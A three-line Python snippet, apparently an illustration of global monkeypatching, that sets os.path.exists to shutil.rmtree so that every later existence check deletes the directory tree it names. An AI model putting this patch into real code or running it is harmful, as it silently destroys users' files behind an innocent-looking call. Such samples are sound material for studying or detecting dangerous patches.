# why: replaces a function of a module for everybody
import os, shutil
setattr(os.path, "exists", shutil.rmtree)
